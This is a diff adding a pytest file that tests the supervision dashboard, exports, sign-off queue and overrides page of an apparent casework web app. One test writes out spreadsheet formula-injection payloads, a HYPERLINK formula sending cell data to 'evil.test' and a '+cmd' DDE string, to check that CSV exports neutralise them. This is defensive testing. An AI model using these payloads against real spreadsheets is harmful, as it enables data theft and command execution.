@@ -1,0 +1,347 @@
+"""The supervision pages through HTTP: access, links behind every number, filters, exports,
+the sign-off queue and the overrides and refusals page."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+import xml.etree.ElementTree as ET
+from datetime import timedelta
+
+import pytest
+import sqlalchemy as sa
+
+from casework.accounts.roles import Role
+from casework.audit.models import AuditEvent
+from casework.extensions import db
+from casework.models import utcnow
+from casework.supervision import dashboard, queue
+from casework.supervision.dashboard import Filters
+from casework.workflow import engine
+from casework.workflow.models import CaseCheckpoint, State
+from tests import supervision_scenario
+
+CHILD_NAMES = ("Ana Lucía", "Ixcoy", "Tzoc")
+PAGES = ["/supervision", "/supervision/cases", "/supervision/overrides",
+         "/supervision/export/dashboard.csv", "/supervision/export/cases.csv"]
+
+
+@pytest.fixture
+def s(world):
+    return supervision_scenario.build(world)
+
+
+def _events(action: str) -> list[AuditEvent]:
+    db.session.rollback()
+    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)
+                                   .order_by(AuditEvent.seq)))
+
+
+# --- access --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.PARALEGAL, Role.ATTORNEY, Role.ADMIN])
+def test_only_supervisors_open_the_dashboard(world, signin, role):
+    browser = signin(world("MX", role))
+    for url in PAGES:
+        assert browser.get(url).status_code == 403, url
+    assert "Supervision" not in browser.get("/cases", follow_redirects=True).get_data(
+        as_text=True).split("</nav>")[0]
+
+
+def test_a_supervisor_opens_every_page_and_finds_it_in_the_menu(world, signin):
+    browser = signin(world("MX", Role.SUPERVISOR))
+    for url in [*PAGES, "/supervision/sign-offs"]:
+        assert browser.get(url).status_code == 200, url
+    menu = browser.get("/cases").get_data(as_text=True).split("</nav>")[0]
+    assert 'href="/supervision"' in menu and 'href="/supervision/sign-offs"' in menu
+
+
+def test_a_supervisor_sees_only_their_offices(s, signin, world):
+    browser = signin(s.sup)
+    page = browser.get("/supervision").get_data(as_text=True)
+    assert s.mx.code in page and s.mx2.code in page and s.us.code not in page
+    listed = browser.get("/supervision/cases?status=applies").get_data(as_text=True)
+    assert s.cases["fresh"].number in listed and s.cases["abroad"].number not in listed
+    # Another office's id in the filter is refused beside the field, not obeyed.
+    refused = browser.get(f"/supervision?office={s.us.id}")
+    assert refused.status_code == 400
+    assert "Not a valid choice" in refused.get_data(as_text=True)
+    assert s.cases["abroad"].number not in browser.get(
+        f"/supervision/cases?office={s.us.id}").get_data(as_text=True)
+    # The US supervisor sees the US case and none of Mexico's.
+    us = signin(world("US", Role.SUPERVISOR)).get("/supervision/cases").get_data(as_text=True)
+    assert s.cases["abroad"].number in us and s.cases["fresh"].number not in us
+
+
+# --- every number is a link to its list --------------------------------------------------
+
+_CELL = re.compile(r'data-column="(\w+)"><a href="([^"]+)">(\d+)<span')
+
+
+def test_every_number_links_to_a_list_of_that_many_checkpoints(s, signin):
+    browser = signin(s.sup)
+    page = browser.get("/supervision").get_data(as_text=True)
+    cells = _CELL.findall(page)
+    assert len(cells) > 40
+    columns = set()
+    for column, href, number in cells:
+        listed = browser.get(html.unescape(href))
+        assert listed.status_code == 200, href
+        text = listed.get_data(as_text=True)
+        rows = text.count("<tr data-case=")
+        assert rows == min(int(number), 50), (href, number, rows)
+        assert f"{number} checkpoint" in text
+        columns.add(column)
+    assert {"applies", "overdue", "due_soon", "awaiting_sign_off", "met_on_time",
+            "met_late", "pending"} <= columns
+
+
+def test_the_overdue_list_is_most_urgent_first_with_days_overdue(s, signin):
+    browser = signin(s.sup)
+    text = browser.get("/supervision/cases?status=overdue").get_data(as_text=True)
+    days = [int(d) for d in re.findall(r'<td class="text-end">(\d+)</td>', text)]
+    assert days and days == sorted(days, reverse=True)
+    assert s.cases["stale"].number in text and "Nobody assigned" in text
+
+
+def test_filters_that_do_not_make_sense_are_refused_beside_the_field(s, signin):
+    browser = signin(s.sup)
+    response = browser.get("/supervision?due_from=2026-03-10&due_to=2026-03-01&stage=legal")
+    assert response.status_code == 400
+    text = response.get_data(as_text=True)
+    assert "The end of the range is before its start." in text
+    assert 'value="2026-03-10"' in text  # what was typed stays
+    assert re.search(r'<option selected value="legal">|<option value="legal" selected', text)
+    assert browser.get("/supervision/cases?status=everything").status_code == 404
+    assert browser.get("/supervision/cases?key=no.such").status_code == 404
+
+
+def test_the_filters_narrow_the_numbers_and_travel_to_the_lists(s, signin):
+    browser = signin(s.sup)
+    text = browser.get(f"/supervision?office={s.mx2.id}&recommendation=R1").get_data(
+        as_text=True)
+    hrefs = [html.unescape(h) for _c, h, _n in _CELL.findall(text)]
+    assert hrefs and all(f"office={s.mx2.id}" in h and "recommendation=R1" in h for h in hrefs)
+    listed = browser.get(f"/supervision/cases?office={s.mx2.id}").get_data(as_text=True)
+    assert s.cases["late"].number in listed and s.cases["fresh"].number not in listed
+
+
+def test_reviews_overdue_show_on_the_dashboard(s, signin):
+    browser = signin(s.sup)
+    text = browser.get("/supervision").get_data(as_text=True)
+    tile = text.split('data-tile="reviews_overdue"')[1].split("</div></div>")[0]
+    assert re.search(r'class="kpi-number" href="[^"]*key=case.review[^"]*">1<', tile)
+    listed = browser.get("/supervision/cases?key=case.review&status=overdue").get_data(
+        as_text=True)
+    assert s.cases["stale"].number in listed and s.cases["legal"].number not in listed
+
+
+def test_views_are_audited_with_ids_only(s, signin):
+    browser = signin(s.sup)
+    browser.get(f"/supervision?staff={s.pl.id}")
+    browser.get("/supervision/cases?status=overdue")
+    view = _events("supervision.dashboard_view")[-1]
+    assert view.actor_id == s.sup.id and view.details["filters"]["staff"] == str(s.pl.id)
+    drill = _events("supervision.drill_down")[-1]
+    assert drill.details["filters"]["status"] == "overdue" and drill.details["results"] > 0
+    assert s.pl.name not in str(view.details)
+
+
+# --- charts ---------------------------------------------------------------------------------
+
+
+def test_the_charts_are_svg_with_text_alternatives(s, signin):
+    text = signin(s.sup).get("/supervision").get_data(as_text=True)
+    svgs = re.findall(r"<svg.*?</svg>", text, re.S)
+    assert len(svgs) == 3
+    for svg in svgs:
+        root = ET.fromstring(svg)  # noqa: S314 (our own markup) -- well-formed
+        ns = "{http://www.w3.org/2000/svg}"
+        assert root.get("role") == "img"
+        labelled = root.get("aria-labelledby").split()
+        assert [root.find(f"{ns}title").get("id"), root.find(f"{ns}desc").get("id")] == labelled
+        assert root.find(f"{ns}desc").text
+        described = root.get("aria-describedby")
+        assert described and f'id="{described}"' in text  # the table with the numbers
+    assert "<script" not in "".join(svgs) and "style=" not in "".join(svgs)
+
+
+# --- exports --------------------------------------------------------------------------------
+
+
+def _csv(response) -> list[list[str]]:
+    """A CSV response's rows. Long exports stream: fetch them with `buffered=True`, so the
+    test client reads them while the request runs, as a server does."""
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"].startswith("attachment;")
+    assert response.headers["Cache-Control"] == "no-store"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+def test_the_dashboard_export_is_de_identified_and_audited(s, signin):
+    browser = signin(s.sup)
+    rows = _csv(browser.get(f"/supervision/export/dashboard.csv?office={s.mx.id}"))
+    body = "\n".join(",".join(r) for r in rows)
+    assert rows[0][:4] == ["table", "id", "name", "cases"]
+    assert not any(name in body for name in CHILD_NAMES)
+    assert s.cw.name not in body and s.pl.name not in body  # no staff names by default
+    total = next(r for r in rows if r[0] == "total")
+    data = dashboard.build(s.scope, Filters(office=s.mx.id), utcnow())
+    assert int(total[3]) == data.totals.cases and int(total[4]) == data.totals["applies"]
+    assert sum(1 for r in rows if r[0] == "week") == 12
+    event = _events("supervision.export")[-1]
+    assert event.actor_id == s.sup.id
+    assert event.details == {"kind": "dashboard", "rows": len(rows) - 1, "with_staff": False,
+                             "filters": {"office": str(s.mx.id)}}
+    with_staff = _csv(browser.get("/supervision/export/dashboard.csv?with_staff=1"))
+    assert any(r[0] == "staff" and r[2] == s.pl.name for r in with_staff)
+    assert _events("supervision.export")[-1].details["with_staff"] is True
+
+
+def test_the_cases_export_lists_the_drill_down_and_audits_it(s, signin):
+    browser = signin(s.sup)
+    plain = _csv(browser.get("/supervision/export/cases.csv?status=overdue", buffered=True))
+    assert plain[0] == ["case_number", "office", "checkpoint", "checkpoint_title",
+                        "recommendations", "status", "due_at", "met_at", "days_overdue"]
+    items, total = dashboard.drill_down(s.scope, Filters(column="overdue"), utcnow(),
+                                        per_page=1000)
+    assert len(plain) - 1 == total > 0
+    assert [r[0] for r in plain[1:]] == [i.number for i in items]  # same order
+    assert {r[5] for r in plain[1:]} == {"overdue"}
+    assert not any(name in str(plain) for name in (*CHILD_NAMES, s.cw.name, s.cw2.name))
+    named = _csv(browser.get("/supervision/export/cases.csv?status=applies&with_staff=1",
+                                buffered=True))
+    assert named[0][-1] == "assigned_staff"
+    legal = {r[-1] for r in named[1:] if r[0] == s.cases["legal"].number}
+    assert legal == {f"{s.cw.name}; {s.pl.name}"}
+    events = _events("supervision.export")
+    assert [e.details["kind"] for e in events[-2:]] == ["cases", "cases"]
+    assert events[-2].details["rows"] == total and events[-1].details["with_staff"] is True
+    assert events[-2].details["filters"] == {"status": "overdue"}
+
+
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(s, signin, make):
+    formula = '=HYPERLINK("http://evil.test/?"&A1,"click")'
+    evil = make.user(Role.CASEWORKER, s.mx, name=formula)
+    make.case(evil)  # the only member of its case's team
+    s.mx2.name = "+cmd|' /C calc'!A0"
+    db.session.commit()
+    browser = signin(s.sup)
+    cases = _csv(browser.get("/supervision/export/cases.csv?with_staff=1", buffered=True))
+    assert "'" + formula in {r[-1] for r in cases}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for row in cases for cell in row)
+    board = _csv(browser.get("/supervision/export/dashboard.csv?with_staff=1"))
+    assert "'+cmd|' /C calc'!A0" in {r[2] for r in board if r[0] == "office"}
+    assert "'" + formula in {r[2] for r in board if r[0] == "staff"}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for row in board for cell in row)
+
+
+# --- sign-off queue ----------------------------------------------------------------------
+
+
+def test_the_old_queue_address_moves_to_supervision(world, signin):
+    response = signin(world("MX", Role.SUPERVISOR)).get("/sign-offs")
+    assert response.status_code == 301 and response.location.endswith("/supervision/sign-offs")
+
+
+def test_the_queue_is_oldest_first_and_signs_off_from_the_list(s, signin, make):
+    browser = signin(s.sup)
+    text = browser.get("/supervision/sign-offs").get_data(as_text=True)
+    listed = re.findall(r'<tr data-case="([^"]+)" data-source="workflow.checkpoints">', text)
+    awaiting = db.session.execute(
+        sa.select(CaseCheckpoint.met_at, CaseCheckpoint.case_id, CaseCheckpoint.key)
+        .where(CaseCheckpoint.state == State.AWAITING_SIGN_OFF)).all()
+    mine = {(case_id, key) for _m, case_id, key in awaiting
+            if s.sup.role in engine.checkpoint(key).signed_off_by}
+    numbers = {c.id: c.number for c in s.cases.values()}
+    in_scope = sorted((m, numbers[c]) for m, c, k in awaiting if (c, k) in mine
+                      and c != s.cases["abroad"].id)
+    assert listed == [n for _m, n in in_scope] and len(listed) >= 3
+    # Sign off the oldest from the list; back on the list, it is gone.
+    item = queue.sign_off_queue(s.sup)[0]
+    response = browser.post(item.sign_off_url, data={"next": "/supervision/sign-offs"})
+    assert response.status_code == 302 and response.location.endswith("/supervision/sign-offs")
+    after = re.findall(r'<tr data-case="([^"]+)"',
+                       browser.get("/supervision/sign-offs").get_data(as_text=True))
+    assert len(after) == len(listed) - 1
+    db.session.rollback()
+    assert [e.case_id for e in _events("checkpoint.sign_off")][-1] == item.case_id
+
+
+def test_no_one_sees_their_own_work_in_their_queue(s, signin, make):
+    make.screening(s.cases["fresh"], s.sup, "safety")  # a supervisor may record it
+    db.session.commit()
+    numbers = re.findall(r'<tr data-case="([^"]+)"', signin(s.sup).get(
+        "/supervision/sign-offs").get_data(as_text=True))
+    assert s.cases["fresh"].number not in numbers
+    other = make.user(Role.SUPERVISOR, s.mx)
+    db.session.commit()
+    assert s.cases["fresh"].number in signin(other).get("/supervision/sign-offs").get_data(
+        as_text=True)
+
+
+def test_an_attorney_sees_the_legal_sign_offs_only(s, signin, make):
+    make.screening(s.cases["fresh"], s.pl, "protection")
+    db.session.commit()
+    att2 = make.user(Role.ATTORNEY, s.mx)
+    db.session.commit()
+    text = signin(att2).get("/supervision/sign-offs").get_data(as_text=True)
+    assert "Fear of return and protection needs" in text
+    assert "Know-your-rights orientation" not in text  # a supervisor's sign-off
+
+
+def test_another_module_adds_its_items_to_the_queue(s, signin):
+    from casework.supervision.queue import QUEUE_SOURCES, QueueItem
+
+    case = s.cases["stale"]
+
+    def bids(user, limit):
+        return [QueueItem(source="test.bids", kind="BID approval", case_id=case.id,
+                          case_number=case.number, office_code=s.mx.code,
+                          title="Best interests determination", recommendations=("R5",),
+                          since=utcnow() - timedelta(days=400), by=None,
+                          open_url=f"/cases/{case.id}")]
+
+    queue.queue_source("test.bids")(bids)
+    try:
+        text = signin(s.sup).get("/supervision/sign-offs").get_data(as_text=True)
+    finally:
+        QUEUE_SOURCES.pop("test.bids")
+    rows = re.findall(r'<tr data-case="([^"]+)" data-source="([^"]+)">', text)
+    assert rows[0] == (case.number, "test.bids")  # the oldest, first
+    assert "Open to decide" in text and len(rows) > 1
+    with pytest.raises(RuntimeError):
+        queue.queue_source("workflow.checkpoints")(bids)
+
+
+# --- overrides and refusals ------------------------------------------------------------------
+
+
+def test_overrides_and_refusals_per_office(s, signin, world):
+    cw = signin(s.cw)
+    assert cw.post(f"/cases/{s.cases['fresh'].id}/actions/record-return",
+                   data={"occurred_at": "2026-01-10T10:00"}).status_code == 409
+    browser = signin(s.sup)
+    text = browser.get("/supervision/overrides").get_data(as_text=True)
+    offices = dict(re.findall(r'<tr data-office="([^"]+)">.*?<td class="text-end">(\d+)</td>',
+                              text, re.S))
+    assert offices == {s.mx.code: "1", s.mx2.code: "0"}
+    assert "Know-your-rights given by the partner; record on file." in text  # the reason
+    assert s.cases["closed"].number in text and s.cases["fresh"].number in text
+    assert "Best interests determination" in text  # what the refused return lacked
+    refusals = re.findall(r'<td class="text-end">\d+</td><td class="text-end">(\d+)</td>', text)
+    assert refusals == ["1", "0"]
+    assert _events("supervision.oversight_view")[-1].details == {
+        "office": None, "overrides": 1, "refusals": 1}
+    # Another country's supervisor sees none of it; a past window neither.
+    us = signin(world("US", Role.SUPERVISOR)).get("/supervision/overrides").get_data(
+        as_text=True)
+    assert s.cases["closed"].number not in us and "Know-your-rights given" not in us
+    old = browser.get("/supervision/overrides?due_from=2020-01-01&due_to=2020-12-31")
+    assert "Know-your-rights given" not in old.get_data(as_text=True)
